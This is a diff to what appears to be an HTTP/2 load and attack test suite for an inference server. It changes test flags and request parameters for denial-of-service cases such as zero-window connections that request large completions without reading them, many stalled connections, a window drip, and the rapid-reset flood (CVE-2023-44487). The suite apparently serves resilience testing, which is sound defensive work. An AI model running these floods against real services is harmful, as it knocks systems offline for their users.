@@ -18,7 +18,7 @@ def close(sockets):
         reset(s)
 
 
-@attack("http2", quick=True, limit_s=60)
+@attack("http2", is_load=True, limit_s=60)
 def window_zero(target):
     """One connection with a window of 0 asks for hundreds of large answers and takes none."""
     s = h2.open_connection(target, initial_window=0)
@@ -26,7 +26,9 @@ def window_zero(target):
     end = time.monotonic() + 12 * target.intensity
     stream = 1
     while time.monotonic() < end:
-        data = b"".join(h2.request(target, stream + 2 * n, LARGE, path="/v1/completions") for n in range(8))
+        data = b"".join(
+            h2.request(target, stream + 2 * n, {**LARGE, "n": 1 + n}, path="/v1/completions") for n in range(8)
+        )
         stream += 16
         try:
             s.sendall(data)
@@ -54,7 +56,7 @@ def window_zero_deadline(target):
     close([s])
 
 
-@attack("http2", limit_s=60)
+@attack("http2", is_load=True, limit_s=60)
 def windows_zero_on_many_connections(target):
     """Forty connections with 100 streams each, all with a window of 0."""
     sockets = []
@@ -95,7 +97,7 @@ def window_drip(target):
     close([s])
 
 
-@attack("http2", quick=True)
+@attack("http2")
 def rapid_reset(target):
     """20,000 requests are each reset right after they are sent (CVE-2023-44487)."""
     before = target.metric("vllm:generation_tokens_total")
